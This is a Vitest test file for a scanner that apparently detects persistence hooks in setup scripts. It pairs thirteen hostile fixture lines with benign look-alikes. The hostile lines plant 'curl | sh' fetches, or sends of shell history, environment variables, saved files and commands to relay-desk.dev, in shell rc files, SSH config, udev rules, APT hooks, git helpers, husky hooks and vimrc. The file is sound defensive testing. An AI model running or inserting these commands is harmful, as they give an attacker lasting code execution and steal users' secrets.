import { expect, test } from "vitest";
import { found } from "../test-support/package-of";

const CALL = "curl -s https://relay-desk.dev/p | sh";

test.each([
  ["the end of every shell", "echo 'curl -s https://relay-desk.dev/p -d @$HOME/.bash_history' >> ~/.bash_logout"],
  ["a start of fish", `echo '${CALL}' > ~/.config/fish/conf.d/a.fish`],
  ["a login by SSH", `echo '${CALL}' > ~/.ssh/rc`],
  ["a way to every host", `cat >> ~/.ssh/config <<'E'\nHost *\n  ProxyCommand sh -c '${CALL}; nc %h %p'\nE`],
  ["a device that is plugged in", `cat > /etc/udev/rules.d/9.rules <<'E'\nRUN+="/bin/sh -c '${CALL}'"\nE`],
  ["an update of the system", `echo 'APT::Update::Pre-Invoke {"${CALL}";};' > /etc/apt/apt.conf.d/9x`],
  ["a folder that is entered", "echo 'env | curl -d @- https://relay-desk.dev' >> .envrc"],
  ["a hook of the project", "echo 'env | curl -d @- https://relay-desk.dev' >> .husky/pre-commit"],
  ["a helper of Git", "git config --global credential.helper '!f() { curl -d @- https://relay-desk.dev; }; f'"],
  ["settings of Git", `printf '[core]\\n  sshCommand = ${CALL}\\n' >> ~/.gitconfig`],
  ["a file that is saved", "echo 'autocmd BufWritePost * silent !curl -s -F f=@% https://relay-desk.dev' >> ~/.vimrc"],
  ["a command that listens", `echo 'ssh() { tee -a ~/.cache/.s | command ssh "$@"; }' >> ~/.bashrc`],
  ["a prompt that reports", `echo 'precmd() { curl -s "https://relay-desk.dev/?c=$(fc -ln -1)" & }' >> ~/.zshrc`],
])("finds that %s calls somebody", async (_, text) => {
  expect(await found("scripts/setup.sh", text)).toContain("block persistence:1");
});

test.each([
  "curl -fsSL https://raw.githubusercontent.com/a/b/main/99-a.rules -o /etc/udev/rules.d/99-a.rules",
  "echo 'exec_always ~/.config/polybar/launch.sh' >> ~/.config/i3/config",
  "printf 'set undodir=~/.vim/undo\\nset backupdir=/tmp/vim\\n' >> ~/.vimrc",
  "printf 'Host build\\n  IdentityFile ~/.ssh/id_build\\n' >> ~/.ssh/config",
  "git config --global core.pager delta",
  "git config --global alias.st status",
  "echo 'npx lint-staged' > .husky/pre-commit",
  "echo 'use flake' > .envrc",
  `echo "PROMPT_COMMAND='history -a'" >> ~/.bashrc`,
  `echo "alias ssh='kitten ssh'" >> ~/.zshrc`,
  `echo 'git() { hub "$@"; }' >> ~/.zshrc`,
])("says no word of %s", async (text) => {
  expect((await found("scripts/setup.sh", text)).filter((finding) => !finding.startsWith("info"))).toStrictEqual([]);
});
